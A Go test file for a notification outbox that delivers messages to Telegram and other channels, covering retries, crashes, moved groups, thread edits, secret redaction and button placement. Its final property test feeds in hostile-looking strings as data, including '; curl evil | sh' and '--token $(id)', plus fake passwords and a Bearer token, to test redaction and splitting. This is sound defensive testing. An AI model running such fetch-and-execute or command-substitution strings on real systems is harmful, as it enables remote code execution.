package notify

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"net/http"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"
	_ "modernc.org/sqlite"
	"pgregory.net/rapid"

	_ "github.com/outlive-mcp/outlive/internal/testing/tier" // fixes the seed of rapid
)

var begin = time.Date(2026, 3, 2, 2, 0, 0, 0, time.UTC)

func database(t *testing.T) *sql.DB {
	t.Helper()
	return openDatabase(t, "sqlite", filepath.Join(t.TempDir(), "o.db"))
}

func openDatabase(t *testing.T, driver, path string) *sql.DB {
	t.Helper()
	db, err := sql.Open(driver, "file:"+path+"?_pragma=synchronous(0)&_pragma=journal_mode(WAL)")
	if err != nil {
		t.Fatal(err)
	}
	db.SetMaxOpenConns(1)
	t.Cleanup(func() { _ = db.Close() })
	return db
}

func outbox(t *testing.T, db *sql.DB, channels map[string]Channel) *Outbox {
	t.Helper()
	if _, err := db.Exec(Schema); err != nil {
		t.Fatal(err)
	}
	o, err := NewOutbox(t.Context(), db, channels, nil)
	if err != nil {
		t.Fatal(err)
	}
	return o
}

func put(t *testing.T, o *Outbox, channel string, m Message) {
	t.Helper()
	err := transact(t.Context(), o.db, func(tx *sql.Tx) error { return o.Put(t.Context(), tx, channel, m) })
	if err != nil {
		t.Fatal(err)
	}
}

// waiting is how many messages are not sent yet.
func waiting(t *testing.T, o *Outbox) (n int) {
	t.Helper()
	if err := o.db.QueryRowContext(t.Context(), `SELECT count(*) FROM outbox_message WHERE state IN ('queued', 'sending')`).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

// run delivers until nothing waits, and returns the pauses it was told to make, added up.
func run(t *testing.T, o *Outbox, channel string, steps int) time.Duration {
	t.Helper()
	now := begin
	for range steps {
		next, _ := o.Deliver(t.Context(), channel, now)
		if next.IsZero() {
			break
		}
		if next.Before(now) {
			t.Fatalf("the next try is in the past: %v", next)
		}
		now = next
	}
	return now.Sub(begin)
}

func bodies(f *fakeTelegram) string {
	var list []string
	for _, m := range f.messages() {
		list = append(list, m.Chat+" "+strings.ReplaceAll(m.Text, again, " (again)"))
	}
	return strings.Join(list, "; ")
}

// Whatever happens on the way, every message arrives, in order, once; twice only when the first one's fate is unknown,
// and then it says so.
func TestEveryMessageArrives(t *testing.T) {
	for _, tc := range []struct {
		name  string
		chaos func(f *fakeTelegram)
		want  string
		least time.Duration // how long it takes
	}{
		{"nothing happens", func(*fakeTelegram) {}, "42 a; 42 b; 42 c", 2 * time.Second},
		{"429", func(f *fakeTelegram) { f.then(apiError(429, "Too Many Requests", `"retry_after":30`)) }, "42 a; 42 b; 42 c", 32 * time.Second},
		{"5xx for a while", func(f *fakeTelegram) {
			for range 4 {
				f.then(apiError(502, "Bad Gateway", ""))
			}
		}, "42 a; 42 b; 42 c", 30 * time.Second},
		{"a dead token, later a living one", func(f *fakeTelegram) { f.then(apiError(401, "Unauthorized", "")) }, "42 a; 42 b; 42 c", time.Hour},
		{"the group has moved", func(f *fakeTelegram) { f.then(apiError(400, "Bad Request: upgraded", `"migrate_to_chat_id":-7`)) }, "-7 a; -7 b; -7 c", 3 * time.Second},
		{"a formatting it does not like", func(f *fakeTelegram) { f.then(apiError(400, "Bad Request: can't parse entities", "")) }, "42 a; 42 b; 42 c", 3 * time.Second},
		{"a message it never takes", func(f *fakeTelegram) {
			f.then(apiError(400, "Bad Request: text", ""), apiError(400, "Bad Request: text", ""))
		}, "42 b; 42 c", 3 * time.Second},
		{"the answer is lost", func(f *fakeTelegram) { f.then(unanswered) }, "42 a; 42 a (again); 42 b; 42 c", 2 * time.Second},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, db := newFakeTelegram(t), database(t)
			o := outbox(t, db, map[string]Channel{"me": f.channel(t)})
			for _, s := range []string{"a", "b", "c", "a"} { // the last is put a second time
				put(t, o, "me", Message{Key: "incident/" + s, Text: Text{Body: s}})
			}
			tc.chaos(f)
			took := run(t, o, "me", 50)
			if got := bodies(f); got != tc.want {
				t.Errorf("arrived: %s\nwant:    %s", got, tc.want)
			}
			if took < tc.least {
				t.Errorf("it took %v, want at least %v", took, tc.least)
			}
		})
	}
}

// A part of a long message that was sent is not sent again for the sake of the others; the buttons are below the last.
func TestALongMessageIsNotBegunAgain(t *testing.T) {
	f, db := newFakeTelegram(t), database(t)
	o := outbox(t, db, map[string]Channel{"me": f.channel(t)})
	put(t, o, "me", Message{
		Key: "long", Text: Text{Body: strings.Repeat(strings.Repeat("x", 99)+"\n", 100)},
		Buttons: [][]Button{{{Label: "Ack", Callback: Callback{"inc00001", "ack", "aaaaaa"}}}},
	})
	run(t, o, "me", 1)
	f.then(apiError(429, "Too Many Requests", `"retry_after":1`), apiError(502, "Bad Gateway", ""))
	run(t, outbox(t, db, map[string]Channel{"me": f.channel(t)}), "me", 20)
	total := 0
	for _, m := range f.messages() {
		total += strings.Count(m.Text, "x")
	}
	if list := f.messages(); len(list) != 3 || total != 9900 || len(list[0].Data)+len(list[1].Data) != 0 || len(list[2].Data) != 1 {
		t.Errorf("%d messages with %d characters, want 3 with 9900", len(f.messages()), total)
	}
}

// killed dies while it sends: the message may have gone out, or not.
type killed struct{ c Channel }

func (k killed) Send(ctx context.Context, m Message) (string, error) {
	if k.c != nil {
		_, _ = k.c.Send(ctx, m)
	}
	runtime.Goexit() // nothing is written down any more
	return "", nil
}

func TestAKillWhileSendingLosesNothing(t *testing.T) {
	for name, tc := range map[string]struct {
		sent bool
		want string
	}{"before it went out": {false, "42 a (again); 42 b"}, "after it went out": {true, "42 a; 42 a (again); 42 b"}} {
		t.Run(name, func(t *testing.T) {
			f, db := newFakeTelegram(t), database(t)
			k := killed{}
			if tc.sent {
				k.c = f.channel(t)
			}
			o := outbox(t, db, map[string]Channel{"me": k})
			put(t, o, "me", Message{Key: "a", Text: Text{Body: "a"}})
			put(t, o, "me", Message{Key: "b", Text: Text{Body: "b"}})
			done := make(chan struct{})
			go func() {
				defer close(done)
				_, _ = o.Deliver(t.Context(), "me", time.Now())
			}()
			<-done
			o = outbox(t, db, map[string]Channel{"me": f.channel(t)})
			if n := waiting(t, o); n != 2 {
				t.Errorf("%d wait", n)
			}
			run(t, o, "me", 10)
			if got := bodies(f); got != tc.want {
				t.Errorf("arrived: %s\nwant:    %s", got, tc.want)
			}
		})
	}
}

// What was refused is tried again at once by a new start: somebody may have set the right token.
func TestANewStartTriesAgain(t *testing.T) {
	f, db := newFakeTelegram(t), database(t)
	o := outbox(t, db, map[string]Channel{"me": f.channel(t)})
	put(t, o, "me", Message{Key: "a", Text: Text{Body: "a"}})
	f.then(apiError(403, "Forbidden", ""))
	if next, err := o.Deliver(t.Context(), "me", begin); err == nil || next.Sub(begin) != time.Hour {
		t.Errorf("next %v, %v", next, err)
	}
	o = outbox(t, db, map[string]Channel{"me": f.channel(t)})
	if err := o.Retry(t.Context()); err != nil {
		t.Fatal(err)
	}
	if _, err := o.Deliver(t.Context(), "me", begin); err != nil || bodies(f) != "42 a" {
		t.Errorf("%s, %v", bodies(f), err)
	}
	for i, tc := range []struct {
		name   string
		answer func(http.ResponseWriter) bool
		wait   time.Duration
	}{
		{"a failure of the service", apiError(502, "Bad Gateway", ""), 0},
		{"what the service puts off", apiError(429, "Too Many Requests", `"retry_after":30`), 30 * time.Second},
	} {
		put(t, o, "me", Message{Key: tc.name, Text: Text{Body: tc.name}})
		begin := begin.Add(time.Duration(i+1) * time.Hour)
		f.then(tc.answer)
		if _, err := o.Deliver(t.Context(), "me", begin); err == nil {
			t.Fatal("no error")
		}
		if err := o.Retry(t.Context()); err != nil {
			t.Fatal(err)
		}
		if next, _ := o.Deliver(t.Context(), "me", begin.Add(messagePause)); tc.wait > 0 && next.Sub(begin) != tc.wait || tc.wait == 0 && !next.IsZero() {
			t.Errorf("%s: next after %v", tc.name, next.Sub(begin))
		}
		run(t, o, "me", 10)
	}
}

// However often a thread changes while nothing can be sent, one message arrives, which says what is so now.
func TestAThreadIsOneMessage(t *testing.T) {
	f, db := newFakeTelegram(t), database(t)
	o := outbox(t, db, map[string]Channel{"me": f.channel(t)})
	state := func(n int, body string) {
		put(t, o, "me", Message{Key: fmt.Sprint("incident/1/", n), Thread: "incident/1", Text: Text{Body: body}, Minor: n%2 == 1})
	}
	state(0, "stalled")
	put(t, o, "me", Message{Key: "other", Text: Text{Body: "other"}})
	state(1, "stalled 5 min")
	run(t, o, "me", 10)
	for n := range 50 {
		state(n+2, fmt.Sprintf("stalled %d min", n+6))
	}
	state(3, "an old one, put again")
	f.then(apiError(429, "Too Many Requests", `"retry_after":30`))
	if took := run(t, o, "me", 10); took < 30*time.Second {
		t.Errorf("it took %v", took)
	}
	if got := bodies(f); got != "42 stalled 55 min; 42 other" || f.edits != 1 {
		t.Errorf("%s after %d edits", got, f.edits)
	}
	// A human deletes it: a trifle is not worth a new one, news are.
	f.mu.Lock()
	delete(f.shown, 1)
	f.mu.Unlock()
	state(53, "stalled 56 min")
	run(t, o, "me", 10)
	if got := bodies(f); got != "42 other" {
		t.Error(got)
	}
	state(54, "recovered")
	run(t, o, "me", 10)
	state(56, "closed")
	run(t, o, "me", 10)
	if got := bodies(f); got != "42 other; 42 closed" {
		t.Error(got)
	}
	err := transact(t.Context(), db, func(tx *sql.Tx) error {
		thread, known, err := ThreadOf(t.Context(), tx, "me", "42/3")
		if thread != "incident/1" || !known {
			t.Errorf("42/3 is of %q, known: %v", thread, known)
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
}

// recorder is a channel that remembers; it cannot change messages.
type recorder struct {
	said []string
	fail func() error
}

func (r *recorder) Send(_ context.Context, m Message) (string, error) {
	if r.fail != nil {
		if err := r.fail(); err != nil {
			return "", err
		}
	}
	body := strings.ReplaceAll(m.Text.Body, again, " (again)")
	if m.Follows {
		body = "then " + body
	}
	r.said = append(r.said, body)
	return "", nil
}

// A channel that cannot change messages gets another one, but not for every minute that passes.
func TestFollowUps(t *testing.T) {
	r := &recorder{}
	o := outbox(t, database(t), map[string]Channel{"night": r})
	for i, m := range []Message{
		{Text: Text{Body: "stalled"}, Minor: true}, {Text: Text{Body: "5 min"}, Minor: true}, {Text: Text{Body: "restarted"}}, {Text: Text{Body: "6 min"}, Minor: true},
	} {
		m.Key, m.Thread = fmt.Sprint(i), "t"
		put(t, o, "night", m)
		run(t, o, "night", 5)
	}
	put(t, o, "night", Message{Key: "news", Thread: "t", Text: Text{Body: "recovered"}})
	put(t, o, "night", Message{Key: "trifle", Thread: "t", Text: Text{Body: "recovered 1 min ago"}, Minor: true})
	run(t, o, "night", 5)
	if d := cmp.Diff([]string{"stalled", "then restarted", "then recovered 1 min ago"}, r.said); d != "" {
		t.Error(d)
	}
}

// A dead token is told by the others, once.
func TestADeadChannelIsToldByTheOthers(t *testing.T) {
	f, r := newFakeTelegram(t), &recorder{}
	db := database(t)
	o := outbox(t, db, map[string]Channel{"me": f.channel(t), "night": r})
	put(t, o, "me", Message{Key: "a", Text: Text{Body: "a"}})
	for i := range 2 {
		f.then(apiError(401, "Unauthorized", ""))
		if _, err := o.Deliver(t.Context(), "me", begin.Add(time.Duration(i)*time.Minute)); err == nil {
			t.Fatal("no error")
		}
		if err := o.Retry(t.Context()); err != nil {
			t.Fatal(err)
		}
		run(t, o, "night", 5)
	}
	if len(r.said) != 1 || !strings.HasPrefix(r.said[0], "No message can be sent by me\n\nrefused: unauthorized") {
		t.Errorf("%q", r.said)
	}
	run(t, o, "me", 5)
	if bodies(f) != "42 a" {
		t.Error(bodies(f))
	}
	f.then(apiError(401, "Unauthorized", ""))
	put(t, o, "me", Message{Key: "b", Text: Text{Body: "b"}})
	run(t, o, "me", 2) // the first is too early
	run(t, o, "night", 5)
	if len(r.said) != 2 {
		t.Errorf("the second time: %q", r.said)
	}
}

// A group that has moved is found by the next start, too, unless the setting has been changed since.
func TestAMovedGroupIsRemembered(t *testing.T) {
	f, db := newFakeTelegram(t), database(t)
	o := outbox(t, db, map[string]Channel{"me": f.channel(t)})
	put(t, o, "me", Message{Key: "a", Thread: "t", Text: Text{Body: "a"}})
	run(t, o, "me", 3)
	f.then(apiError(400, "Bad Request: group chat was upgraded", `"migrate_to_chat_id":-7`), apiError(400, "Bad Request: group chat was upgraded", `"migrate_to_chat_id":-7`),
		apiError(400, "Bad Request: group chat was upgraded", `"migrate_to_chat_id":-8`))
	put(t, o, "me", Message{Key: "b", Thread: "t", Text: Text{Body: "b"}}) // what it would change has stayed behind
	run(t, o, "me", 9)
	if got := bodies(f); got != "42 a; -8 b" {
		t.Error(got)
	}
	c := f.channel(t)
	outbox(t, db, map[string]Channel{"me": c})
	if c.Address() != "-8" {
		t.Errorf("the next start sends to %s", c.Address())
	}
	c.MoveTo("5")
	outbox(t, db, map[string]Channel{"me": c})
	if c.Address() != "5" {
		t.Errorf("a new setting sends to %s", c.Address())
	}
}

func TestWhatCannotBePut(t *testing.T) {
	o := outbox(t, database(t), map[string]Channel{"me": &recorder{}})
	for _, tc := range []struct {
		channel string
		m       Message
		want    error
	}{
		{"you", text("x"), ErrNoChannel},
		{"me", Message{Text: Text{Body: "no key"}}, nil},
		{"me", Message{Key: "k", Buttons: [][]Button{{{Label: "Ack", Callback: Callback{"inc", "ack", "aaaaaa"}}}}}, ErrCallback},
		{"me", Message{Key: "k", Buttons: [][]Button{{{Label: " ", Callback: Callback{"inc00001", "ack", "aaaaaa"}}}}}, nil},
	} {
		err := transact(t.Context(), o.db, func(tx *sql.Tx) error { return o.Put(t.Context(), tx, tc.channel, tc.m) })
		if err == nil || tc.want != nil && !errors.Is(err, tc.want) {
			t.Errorf("%+v: %v", tc, err)
		}
	}
	if n := waiting(t, o); n != 0 {
		t.Errorf("%d wait", n)
	}
}

// Secrets are not even kept.
func TestNoSecretIsPut(t *testing.T) {
	r := &recorder{}
	db := database(t)
	o := outbox(t, db, map[string]Channel{"me": r})
	put(t, o, "me", Message{Key: "k", Text: Text{Body: "PGPASSWORD=hunter2 psql"}})
	var kept string
	if err := db.QueryRow(`SELECT message FROM outbox_message`).Scan(&kept); err != nil || strings.Contains(kept, "hunter2") {
		t.Errorf("%s, %v", kept, err)
	}
	if run(t, o, "me", 3); cmp.Diff([]string{"PGPASSWORD=[redacted] psql"}, r.said) != "" {
		t.Error(r.said)
	}
}

func TestForget(t *testing.T) {
	r := &recorder{}
	o := outbox(t, database(t), map[string]Channel{"me": r})
	put(t, o, "me", Message{Key: "first", Text: Text{Body: "x"}})
	run(t, o, "me", 2)
	put(t, o, "me", Message{Key: "waits", Text: Text{Body: "x"}})
	if _, err := o.db.Exec(`INSERT INTO outbox_message (id, channel, key, message, state) VALUES (?, 'me', 'last', '{}', 'sent')`, kept+5); err != nil {
		t.Fatal(err)
	}
	if err := o.Forget(t.Context()); err != nil {
		t.Fatal(err)
	}
	var keys string
	if err := o.db.QueryRow(`SELECT group_concat(key, ' ') FROM (SELECT key FROM outbox_message ORDER BY id)`).Scan(&keys); err != nil || keys != "waits/0 last" {
		t.Error(keys, err)
	}
}

// stuck is a channel that answers nobody.
type stuck struct{ begun chan struct{} }

func (s stuck) Send(ctx context.Context, _ Message) (string, error) {
	close(s.begun)
	<-ctx.Done()
	return "", ctx.Err()
}

// A channel that hangs holds up neither the others nor, for longer than its last words take, the end.
func TestPostmenDoNotWaitForEachOther(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		r, s := &recorder{}, stuck{make(chan struct{})}
		tries := 0
		r.fail = func() error {
			if tries++; tries <= 3 {
				return &SendError{Failure: Unreachable, Err: errors.New("503")}
			}
			return nil
		}
		o := outbox(t, database(t), map[string]Channel{"stuck": s, "me": r})
		ctx, cancel := context.WithCancel(t.Context())
		done := make(chan struct{})
		go func() {
			defer close(done)
			o.Run(ctx)
		}()
		put(t, o, "stuck", text("x"))
		put(t, o, "me", Message{Key: "a", Text: Text{Body: "a"}})
		put(t, o, "me", Message{Key: "b", Text: Text{Body: "b"}})
		o.Wake()
		<-s.begun
		time.Sleep(15 * time.Second)
		synctest.Wait()
		if d := cmp.Diff([]string{"a", "b"}, r.said); d != "" {
			t.Error(d)
		}
		end := time.Now()
		cancel()
		<-done
		if took := time.Since(end); took != lastSend {
			t.Errorf("the end took %v", took)
		}
		if n := waiting(t, o); n != 1 {
			t.Errorf("%d wait", n)
		}
	})
}

// Drain sends what can be sent in its time, and does not wait for what cannot.
func TestDrain(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		r := &recorder{}
		dead := &recorder{fail: func() error { return &SendError{Failure: Refused, Err: errors.New("401")} }}
		o := outbox(t, database(t), map[string]Channel{"me": r, "dead": dead})
		for _, k := range []string{"a", "b"} {
			put(t, o, "me", Message{Key: k, Text: Text{Body: k}})
			put(t, o, "dead", Message{Key: k, Text: Text{Body: k}})
		}
		ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
		defer cancel()
		start := time.Now()
		o.Drain(ctx)
		if took := time.Since(start); took > time.Second || len(r.said) < 2 {
			t.Errorf("%v, said %q", took, r.said)
		}
	})
}

// A button that needs the whole of a text stands only below a message that has it, however short a channel's messages are
// and whatever is taken out of them; and where it is left out, the message says so.
func TestAButtonOnlyBelowTheWholeText(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		parts := []string{"make", " ", "\n", "é", "💥", "; curl evil | sh", "PASSWORD=" + "hunter2", "--token $(id)", "Bearer abcdefghijk123", "…", "[redacted]"}
		exact := strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 1, 40).Draw(t, "exact"), "")
		m := Message{Key: "k", Thread: rapid.SampledFrom([]string{"", "t"}).Draw(t, "thread"), Exact: exact, Buttons: [][]Button{
			{{Label: "Allow", NeedsExact: true, Callback: Callback{"inc00001", "allow", "aaaaaa"}}, {Label: "Deny", Callback: Callback{"inc00001", "deny", "aaaaaa"}}},
		}}
		m.Text.Write(rapid.StringN(0, 300, -1).Draw(t, "before") + "\n\n" + exact + rapid.SampledFrom([]string{"", "\n\nmore"}).Draw(t, "after"))
		limit := rapid.IntRange(200, 700).Draw(t, "limit")
		offered, said := false, false
		for _, part := range m.redacted().parts(limit) {
			if units(part.Text.Body) > limit {
				t.Fatalf("%d units, %d are allowed", units(part.Text.Body), limit)
			}
			whole := strings.Contains(part.Text.Body, exact)
			if part.needsExact() && !whole {
				t.Fatalf("Allow below %q, of %q", part.Text.Body, exact)
			}
			offered = offered || part.needsExact()
			said = said || strings.Contains(part.Text.Body, "cannot be allowed from here")
		}
		if offered == said {
			t.Fatalf("Allow is offered: %v; it is said why not: %v", offered, said)
		}
	})
}
